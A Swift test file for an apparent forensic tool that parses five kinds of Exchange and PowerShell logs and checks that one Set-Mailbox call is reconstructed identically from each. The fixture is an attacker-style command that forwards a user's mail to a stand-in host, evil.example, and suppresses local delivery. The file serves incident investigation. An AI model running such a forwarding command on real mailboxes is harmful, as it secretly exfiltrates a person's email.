import EvidenceDatabase
import GRDB
import Testing

/// One cmdlet that was run once, and that every log there is of it tells.
@Suite("One cmdlet in five logs")
struct OneCmdletTests {
  private static let values = [
    ("Identity", "ann"), ("ForwardingSmtpAddress", "smtp:x@evil.example"), ("DeliverToMailboxAndForward", "False"),
  ]
  private static let unifiedAudit =
    #"{"CreationTime":"2021-03-02T08:05:10","Id":"c1","Operation":"Set-Mailbox","RecordType":1,"ResultStatus":"True","#
    + #""UserId":"CORP\\admin","Workload":"Exchange","ObjectId":"corp.example/Users/ann","#
    + #""OriginatingServer":"EX01 (15.01.2176.002)","Parameters":["#
    + values.map { #"{"Name":"\#($0.0)","Value":"\#($0.1)"}"# }.joined(separator: ",") + "]}\n"
  private static let administratorAudit =
    #"<SearchResults><Event Caller="corp.example/Users/admin" Cmdlet="Set-Mailbox" "#
    + #"ObjectModified="corp.example/Users/ann" RunDate="2021-03-02T09:05:10+01:00" Succeeded="true" "#
    + #"OriginatingServer="EX01 (15.01.2176.002)"><CmdletParameters>"#
    + values.map { #"<Parameter Name="\#($0.0)" Value="\#($0.1)"/>"# }.joined()
    + "</CmdletParameters></Event></SearchResults>"
  private static let cmdletInfra =
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: Rps Cmdlet Logs\r\n"
    + "#Fields: DateTime,ServerHostName,AuthenticatedUser,Cmdlet,Parameters,ExecutionResult\r\n"
    + "2021-03-02T08:05:10.500Z,EX01,CORP\\admin,Set-Mailbox,\""
    + values.map { "-\($0.0) \"\"\($0.1)\"\"" }.joined(separator: " ") + "\",Success\r\n"
  private static let transcript =
    "**********************\r\nWindows PowerShell transcript start\r\nStart time: 20210302080504\r\n"
    + "Username: CORP\\admin\r\nMachine: EX01 (Microsoft Windows NT 10.0.14393.0)\r\nPSVersion: 5.1\r\n"
    + "**********************\r\n[PS] C:\\>set-mailbox ann -forwardingsmtpaddress smtp:x@evil.example `\r\n"
    + ">> -DeliverToMailboxAndForward $false\r\n"
  private static let history =
    "Get-Mailbox\r\nSet-Mailbox ann -ForwardingSmtpAddress 'smtp:x@evil.example' -DeliverToMailboxAndForward:$false\r\n"

  @Test("has the same parameters in each, and is one act with all of its records")
  func joined() throws {
    let place = try Workplace()
    for (name, text) in [
      ("audit.jsonl", Self.unifiedAudit), ("SearchResult.xml", Self.administratorAudit),
      ("Cmdlet.LOG", Self.cmdletInfra), ("transcript.txt", Self.transcript), ("ConsoleHost_history.txt", Self.history),
    ] { try place.write(text.utf8, to: "logs/\(name)") }
    #expect(try place.examine("logs", "--case", "case.sqlite").status == 0)
    try EvidenceDatabase.openForReading(place.path("case.sqlite")).read { db in
      let told = try Row.fetchAll(
        db,
        sql: """
          SELECT r.log_kind, p.name_lc || '=' || p.value AS told
          FROM cmdlet AS c JOIN audit_record AS r USING (audit_record_id)
          JOIN cmdlet_parameter AS p USING (audit_record_id) WHERE c.cmdlet_lc = 'set-mailbox' ORDER BY 1, p.ordinal
          """)
      let kinds = Dictionary(grouping: told) { $0["log_kind"] as String }.mapValues { $0.map { $0["told"] as String } }
      #expect(
        kinds.keys.sorted() == [
          "admin_audit_log", "cmdlet_infra", "powershell_history", "powershell_transcript", "unified_audit_log",
        ])
      let same = Self.values.map { "\($0.0.lowercased())=\($0.1)" } + ["forwardingsmtpaddress=x@evil.example"]
      for (kind, parameters) in kinds { #expect(parameters == same, "\(kind)") }
      #expect(
        try Row.fetchAll(
          db,
          sql: """
            SELECT a.cmdlet_lc, COUNT(*) AS records FROM cmdlet_act AS a JOIN cmdlet_act_record AS m USING (cmdlet_act_id)
            GROUP BY a.cmdlet_act_id ORDER BY 1
            """
        ).map { "\($0[0] as String) \($0[1] as Int)" } == ["get-mailbox 1", "set-mailbox 5"])
    }
  }
}
